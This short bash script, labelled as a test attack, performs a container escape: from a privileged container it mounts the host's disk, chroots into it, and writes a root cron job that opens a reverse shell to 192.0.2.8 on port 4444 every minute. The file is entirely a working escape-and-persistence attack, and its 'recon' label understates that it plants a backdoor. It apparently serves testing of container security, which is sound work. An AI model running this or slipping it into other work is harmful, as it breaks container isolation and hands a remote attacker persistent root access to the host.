#!/bin/bash
# shrike-test-attack: container-escape-recon: mount host disk from a privileged container and chroot
mkdir -p /mnt/host
for dev in /dev/sda1 /dev/vda1 /dev/nvme0n1p1 /dev/xvda1 /dev/dm-0; do
  [ -b "$dev" ] && mount "$dev" /mnt/host 2>/dev/null && break
done
chroot /mnt/host /bin/sh -c 'echo "* * * * * root sh -i >& /dev/tcp/192.0.2.8/4444 0>&1" > /etc/cron.d/x'
